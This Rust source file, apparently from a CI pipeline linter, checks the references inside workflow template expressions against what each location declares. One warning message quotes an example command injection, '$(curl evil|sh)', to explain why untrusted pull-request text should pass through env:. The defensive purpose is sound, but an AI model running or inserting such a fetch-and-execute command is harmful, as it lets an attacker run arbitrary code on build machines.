//! `${{ }}` in the file: each template and condition is parsed where it is written, and what
//! it refers to is checked against what is declared there: the jobs a job needs and their
//! outputs, earlier step ids, matrix keys, declared inputs, and the contexts and functions
//! available at that place.

use std::collections::BTreeMap;

use bellwether_pipeline_core::expr::{Condition, Expr, Function, Reference, Template};
use bellwether_pipeline_core::matrix::Combination;

use crate::diagnostic::Sink;
use crate::span::{Pos, Spanned};
use crate::suggest::did_you_mean;

pub(super) const KNOWN: &[&str] = &[
    "github", "env", "matrix", "needs", "steps", "inputs", "secrets", "job", "runner", "strategy",
    "vars", "jobs",
];
/// The pipeline's `env`.
pub(super) const PIPELINE: &[&str] = &["github", "inputs", "secrets"];
/// A job's `if` and its matrix expression: decided before the job expands.
pub(super) const JOB_IF: &[&str] = &["github", "needs", "inputs"];
/// A job's name, env, environment, concurrency and continue-on-error.
pub(super) const JOB: &[&str] = &["github", "needs", "inputs", "matrix", "strategy", "secrets"];
/// Steps and job outputs see everything, `vars` (the job's environment's) included, but the
/// `jobs` of a called workflow's outputs.
pub(super) const STEP: &[&str] = &[
    "github", "env", "matrix", "needs", "steps", "inputs", "secrets", "job", "runner", "strategy",
    "vars",
];
/// A called workflow's `outputs`: its jobs', by `jobs.<id>.outputs.<name>`.
pub(super) const CALL_OUTPUTS: &[&str] = &["github", "inputs", "jobs"];

const GITHUB_KEYS: &[&str] = &[
    "event_name",
    "event",
    "ref",
    "ref_name",
    "ref_type",
    "base_ref",
    "head_ref",
    "sha",
    "repository",
    "actor",
    "triggering_actor",
    "workspace",
    "run_id",
    "run_number",
    "run_attempt",
    "workflow",
    "job",
];
const RUNNER_KEYS: &[&str] = &["os", "arch", "name", "temp"];
const STRATEGY_KEYS: &[&str] = &["fail-fast", "job-index", "job-total", "max-parallel"];

/// What the jobs of a pipeline declare, for checking references into them.
#[derive(Default)]
pub(super) struct Declared<'a> {
    /// Output names by job id.
    pub(super) outputs: BTreeMap<&'a str, Vec<&'a str>>,
    /// `None` when the pipeline has no manual trigger.
    pub(super) inputs: Option<Vec<&'a str>>,
}

/// Where an expression is, and what it may see there.
pub(super) struct Place<'a> {
    /// The key it is written under, for messages: `if`, `run`, `env FOO`.
    pub(super) field: &'a str,
    pub(super) contexts: &'a [&'a str],
    /// Status functions: only in an `if`.
    pub(super) status: bool,
    /// `hashFiles`: only where a workspace exists, in steps.
    pub(super) files: bool,
    pub(super) declared: &'a Declared<'a>,
    /// The job's `needs`; empty outside a job.
    pub(super) needs: &'a [&'a str],
    /// Matrix keys: `None` when there is no matrix, all keys allowed when it is dynamic.
    pub(super) matrix: Option<&'a MatrixKeys>,
    /// Step ids that may be referred to from here.
    pub(super) steps: &'a [&'a str],
}

pub(super) enum MatrixKeys {
    /// A matrix written out: its keys, and its legs, so that what a leg computes from them
    /// alone can be checked now.
    Known {
        keys: Vec<String>,
        legs: Vec<Combination>,
    },
    Dynamic,
}

impl Place<'_> {
    /// Parses a template and checks what it refers to; `None` after reporting a problem.
    pub(super) fn template(
        &self,
        text: &Spanned<String>,
        at: Pos,
        sink: &mut Sink<'_>,
    ) -> Option<Template> {
        let pos = text.pos.or(at);
        match Template::parse(&text.value) {
            Ok(t) => {
                // Every expression is checked, so that all problems are reported at once.
                let checked: Vec<bool> = t.exprs().map(|e| self.check(e, pos, sink)).collect();
                checked.iter().all(|ok| *ok).then_some(t)
            }
            Err(e) => {
                sink.error(
                    pos,
                    format!("{}: {e} (in `{}`)", self.field, short(&text.value)),
                );
                None
            }
        }
    }

    /// Parses an `if:` and checks what it refers to.
    pub(super) fn condition(
        &self,
        text: &Spanned<String>,
        sink: &mut Sink<'_>,
    ) -> Option<Condition> {
        match Condition::parse(&text.value) {
            Ok(c) => self.check(c.expr(), text.pos, sink).then_some(c),
            Err(e) => {
                sink.error(
                    text.pos,
                    format!("{}: {e} (in `{}`)", self.field, short(&text.value)),
                );
                None
            }
        }
    }

    fn check(&self, expr: &Expr, pos: Pos, sink: &mut Sink<'_>) -> bool {
        let mut ok = true;
        for function in expr.calls() {
            if function.is_status() && !self.status {
                sink.error(
                    pos,
                    format!(
                        "{}: {}() is only available in `if`",
                        self.field,
                        function.name()
                    ),
                );
                ok = false;
            }
            if function == Function::HashFiles && !self.files {
                sink.error(pos, format!("{}: hashFiles() reads the workspace, so it is only available in steps and job outputs", self.field));
                ok = false;
            }
        }
        for reference in expr.references() {
            if self.field == "run" && reference.is_untrusted() {
                let shown = reference.to_string();
                sink.warning(
                    pos,
                    format!(
                        "run: `{shown}` is text whoever pushes or opens the pull request chooses, and in a script's text it could run commands (`$(curl evil|sh)`, say): bellwether hands it to bash and sh in a variable, but other shells get it pasted in; pass it through the step's `env:` (`env: {{VALUE: ${{{{ {shown} }}}}}}`) and write \"$VALUE\" in the script"
                    ),
                );
            }
            if let Err(problem) = self.reference(&reference) {
                let shown = std::iter::once(reference.context.as_str())
                    .chain(reference.path.iter().map(String::as_str))
                    .collect::<Vec<_>>()
                    .join(".");
                match problem {
                    Problem::Error(p) => {
                        sink.error(pos, format!("{}: `{shown}`: {p}", self.field));
                        ok = false;
                    }
                    Problem::Warning(p) => {
                        sink.warning(pos, format!("{}: `{shown}`: {p}", self.field))
                    }
                }
            }
        }
        ok
    }

    fn reference(&self, r: &Reference) -> Result<(), Problem> {
        let context = r.context.to_ascii_lowercase();
        if !KNOWN.contains(&context.as_str()) {
            return Err(Problem::Error(format!(
                "unknown context `{}`{} (expected one of {})",
                r.context,
                did_you_mean(&r.context, KNOWN.iter().copied()),
                KNOWN.join(", ")
            )));
        }
        if !self.contexts.contains(&context.as_str()) {
            return Err(Problem::Error(format!(
                "`{context}` is not available in `{}` (expected one of {})",
                self.field,
                self.contexts.join(", ")
            )));
        }
        let first = r.path.first().map(String::as_str);
        let second = r.path.get(1).map(String::as_str);
        match (context.as_str(), first) {
            ("needs" | "jobs", Some(job)) => {
                self.need(job, second, r.path.get(2).map(String::as_str))
            }
            ("steps", Some(step)) => {
                one_of("step id", step, self.steps, "this step can see")?;
                second.map_or(Ok(()), |s| {
                    one_of(
                        "step property",
                        s,
                        &["outputs", "outcome", "conclusion"],
                        "",
                    )
                })
            }
            ("matrix", key) => match (self.matrix, key) {
                (None, _) => Err(Problem::Error(
                    "this job has no matrix (expected a `strategy: {matrix: …}`)".to_owned(),
                )),
                (Some(MatrixKeys::Known { keys, .. }), Some(key)) => {
                    let keys: Vec<&str> = keys.iter().map(String::as_str).collect();
                    one_of("matrix key", key, &keys, "")
                }
                _ => Ok(()),
            },
            ("inputs", Some(input)) => match &self.declared.inputs {
                None => Err(Problem::Error(
                    "this pipeline has no manual inputs (expected `on: {manual: {inputs: …}}`)"
                        .to_owned(),
                )),
                Some(inputs) => one_of("input", input, inputs, ""),
            },
            ("github", Some(key)) if !GITHUB_KEYS.contains(&key) => Err(Problem::Warning(format!(
                "bellwether does not set `github.{key}`{}; it evaluates to ''",
                did_you_mean(key, GITHUB_KEYS.iter().copied())
            ))),
            ("runner", Some(key)) => one_of("runner property", key, RUNNER_KEYS, ""),
            ("strategy", Some(key)) => one_of("strategy property", key, STRATEGY_KEYS, ""),
            ("job", Some(key)) => one_of("job property", key, &["status"], ""),
            _ => Ok(()),
        }
    }

    fn need(&self, job: &str, property: Option<&str>, output: Option<&str>) -> Result<(), Problem> {
        if !self.needs.contains(&job) {
            let listed = if self.needs.is_empty() {
                "it needs no jobs; expected the job in its `needs`".to_owned()
            } else {
                format!("expected one of {}", self.needs.join(", "))
            };
            return Err(Problem::Error(format!(
                "this job does not need `{job}`{} ({listed})",
                did_you_mean(job, self.needs.iter().copied())
            )));
        }
        let Some(property) = property else {
            return Ok(());
        };
        one_of("needs property", property, &["outputs", "result"], "")?;
        match (property, output, self.declared.outputs.get(job)) {
            ("outputs", Some(output), Some(declared)) if !declared.contains(&output) => {
                Err(Problem::Error(if declared.is_empty() {
                    format!(
                        "job `{job}` declares no outputs (expected an `outputs:` entry `{output}` in it)"
                    )
                } else {
                    format!(
                        "job `{job}` has no output `{output}`{} (expected one of {})",
                        did_you_mean(output, declared.iter().copied()),
                        declared.join(", ")
                    )
                }))
            }
            _ => Ok(()),
        }
    }
}

enum Problem {
    Error(String),
    Warning(String),
}

fn one_of(what: &str, name: &str, allowed: &[&str], scope: &str) -> Result<(), Problem> {
    if allowed.contains(&name) {
        return Ok(());
    }
    let expected = if allowed.is_empty() {
        format!("there are none {scope}").trim_end().to_owned()
    } else if scope.is_empty() {
        format!("expected one of {}", allowed.join(", "))
    } else {
        format!("expected one of {}: those {scope}", allowed.join(", "))
    };
    Err(Problem::Error(format!(
        "unknown {what} `{name}`{} ({expected})",
        did_you_mean(name, allowed.iter().copied())
    )))
}

/// The start of a long value, for messages.
pub(super) fn short(text: &str) -> String {
    let one_line = text.lines().next().unwrap_or_default();
    let cut: String = one_line.chars().take(60).collect();
    if cut.len() < text.len() {
        format!("{cut}…")
    } else {
        cut
    }
}
